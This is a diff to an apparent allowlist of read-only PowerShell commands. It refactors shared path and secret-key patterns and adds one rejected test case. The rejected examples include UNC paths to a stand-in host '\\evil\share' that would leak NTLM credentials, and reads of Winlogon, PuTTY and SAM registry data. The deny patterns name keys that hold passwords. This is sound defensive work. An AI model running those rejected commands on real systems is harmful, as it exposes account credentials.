@@ -1,14 +1,12 @@
-/** A place on a drive of this computer: no UNC path, which would send the account's NTLM answer out, no provider, no stream. */
-const PLACE = String.raw`(?![-+])(?![\\\/]{2}|[\\\/]\?\?)(?:[a-z]:[^:<>|"]*|[^:<>|"]+)`
-/** A place that is opened: no device either (`con` waits for a person, `com1` is a port), in whatever folder. */
-const PSFILE = String.raw`(?!(?:[^]*[\\\/:])?(?:con|prn|aux|nul|conin\$|conout\$|(?:com|lpt)\d)\s*(?:[.:]|$))${PLACE}`
+import { FILE, PLACE, SECRET_KEY } from './shapes.ts'
+
 /** A place, or a drive that holds no secrets. */
 const PSPATH = `(?:(?:cert|function|alias|temp):[^:<>|"]*|${PLACE})`
 const REGROOT = String.raw`(?!.*\.\.)(?:registry::)?(?:hklm|hkcu|hkcr|hku|hkcc|hkey_(?:local_machine|current_user|classes_root|users|current_config)):?(?:[\\\/]|$)`
 /** A key whose own values are shown: none of those that hold passwords, and no wildcard but below Uninstall. */
-const REGKEY = String.raw`(?!.*(?:winlogon|pass|pwd|secret|cred|token|putty|vnc|snmp|teamviewer|openssh|[\\\/](?:sam|security|lsa)(?:[\\\/]|$)))${REGROOT}[^:<>|"*?[]*(?:(?<=uninstall[\\\/])\*)?`
+const REGKEY = String.raw`(?!.*(?:${SECRET_KEY}))${REGROOT}[^:<>|"*?[]*(?:(?<=uninstall[\\\/])\*)?`
 /** Keys whose keys below are shown with their values: programs, start entries, single services, devices. */
-const REGLIST = String.raw`(?!.*(?:snmp|vnc|pass|secret))${REGROOT}(?:software[\\\/](?:wow6432node[\\\/])?microsoft[\\\/]windows[\\\/]currentversion[\\\/](?:uninstall|run|runonce)|system[\\\/]currentcontrolset[\\\/](?:services[\\\/][\w.-]+|enum[\\\/](?:usb|usbstor|pci|display|hdaudio|bthenum)))(?:[\\\/][^:<>|"]*)?`
+const REGLIST = String.raw`(?!.*(?:${SECRET_KEY}))${REGROOT}(?:software[\\\/](?:wow6432node[\\\/])?microsoft[\\\/]windows[\\\/]currentversion[\\\/](?:uninstall|run|runonce)|system[\\\/]currentcontrolset[\\\/](?:services[\\\/][\w.-]+|enum[\\\/](?:usb|usbstor|pci|display|hdaudio|bthenum)))(?:[\\\/][^:<>|"]*)?`
 const PSLIST = `(?:${REGLIST}|${PSPATH})`
 const PSKEY = `(?:${REGKEY}|${PSPATH})`
 const PSANY = String.raw`(?:env:\w+|${REGROOT}[^:<>|"]*|${PSPATH})`
@@ -93,6 +91,7 @@ get-itemproperty | shows values of a key or a file | 查看注册表值或文件
   ! Get-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Win*'
   ! Get-ItemProperty HKLM:\SOFTWARE\x 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon'
   ! Get-ItemProperty HKLM:\SOFTWARE\x -Name Password
+  ! Get-ItemProperty HKCU:\Environment
   ! Get-ItemProperty HKCU:\Software\SimonTatham\PuTTY\Sessions\x
   ! Get-ItemProperty HKLM:\SOFTWARE\x\..\Microsoft\..\..\SAM
 
@@ -106,7 +105,7 @@ get-itempropertyvalue | shows a value of a key | 查看注册表值
   ! Get-ItemPropertyValue HKLM:\SOFTWARE\x Password
 
 get-content | shows files | 查看文件
-  -path -literalpath=/${PSFILE}/ !first | file | 文件
+  -path -literalpath=/${FILE}/ !first | file | 文件
   -tail -last=number | last lines | 末尾行数
   -totalcount -first -head=number | first lines | 开头行数
   -raw | as one text | 作为整段文本
@@ -117,7 +116,7 @@ get-content | shows files | 查看文件
   -force | hidden ones too | 含隐藏项
   -filter -include -exclude=/(?!-)[^:\\\/]+/ | names | 名称筛选
   -asbytestream
-  operands /${PSFILE}/ /${PSFILE}/*
+  operands /${FILE}/ /${FILE}/*
   = Get-Content C:\log.txt -Tail 50
   = gc x.txt -TotalCount 10
   = Get-Content -LiteralPath C:\x.txt -Raw
@@ -134,7 +133,7 @@ get-content | shows files | 查看文件
 
 select-string | shows lines with a text | 查找文本行
   -pattern=text !first | text to find | 要查找的文本
-  -path -literalpath=/${PSFILE}/ | files | 文件
+  -path -literalpath=/${FILE}/ | files | 文件
   -casesensitive | by case | 区分大小写
   -simplematch | literal text | 按字面匹配
   -quiet | only whether | 仅返回是否存在
@@ -145,7 +144,7 @@ select-string | shows lines with a text | 查找文本行
   -include -exclude=/(?!-)[^:\\\/]+/ | names | 名称筛选
   -encoding=name
   -raw -noemphasis
-  operands /(?!-)(?![\\\/]{2}|(?:env|variable|wsman):)(?!.*::[\\\/])[^]*/ /${PSFILE}/*
+  operands /(?!-)(?![\\\/]{2}|(?:env|variable|wsman):)(?!.*::[\\\/])[^]*/ /${FILE}/*
   = Select-String -Path x.log -Pattern error
   = Select-String error *.log
   = Select-String -Pattern 'error' -Context 2
@@ -156,12 +155,12 @@ select-string | shows lines with a text | 查找文本行
   ! Select-String x con
 
 import-csv | shows a table file | 读取 CSV 文件
-  -path -literalpath=/${PSFILE}/ !first | file | 文件
+  -path -literalpath=/${FILE}/ !first | file | 文件
   -delimiter=text | separator | 分隔符
   -header=text | headings | 表头
   -encoding=name
   -useculture
-  operands /${PSFILE}/ /${PSFILE}/*
+  operands /${FILE}/ /${FILE}/*
   = Import-Csv x.csv
   = Import-Csv -Path C:\x.csv -Delimiter ';'
   ! Import-Csv \\evil\share\x.csv
@@ -189,9 +188,9 @@ resolve-path, convert-path | full paths | 解析路径
   ! Resolve-Path
 
 get-filehash | shows the hash of files | 计算文件哈希
-  -path -literalpath=/${PSFILE}/ | file | 文件
+  -path -literalpath=/${FILE}/ | file | 文件
   -algorithm={sha1,sha256,sha384,sha512,md5} | kind | 算法
-  operands /${PSFILE}/*
+  operands /${FILE}/*
   = Get-FileHash C:\x.bin
   = Get-FileHash -Path C:\x.bin -Algorithm MD5
   ! Get-FileHash \\evil\share\x
@@ -206,8 +205,8 @@ get-acl | shows rights | 查看权限
   ! Get-Acl \\evil\share
 
 get-authenticodesignature | shows the signature of files | 查看文件签名
-  -filepath -literalpath=/${PSFILE}/ !first | file | 文件
-  operands /${PSFILE}/ /${PSFILE}/*
+  -filepath -literalpath=/${FILE}/ !first | file | 文件
+  operands /${FILE}/ /${FILE}/*
   = Get-AuthenticodeSignature C:\x.exe
   = Get-AuthenticodeSignature -FilePath C:\x.exe
   ! Get-AuthenticodeSignature \\evil\share\x
@@ -243,7 +242,7 @@ get-winevent | shows events | 查看事件
   -filterhashtable | by a table | 按条件表
   -filterxpath=/(?!-)[^]*/ | by XPath | 按 XPath
   -listlog -listprovider=/(?!-)(?![\\\/]{2})[^:]+/ | which there are | 列出日志或来源
-  -path=/${PSFILE}/ | file | 日志文件
+  -path=/${FILE}/ | file | 日志文件
   -oldest | oldest first | 从旧到新
   -force | debug logs too | 包括调试日志
   operands /(?!-)(?![\\\/]{2})[^:]+/*
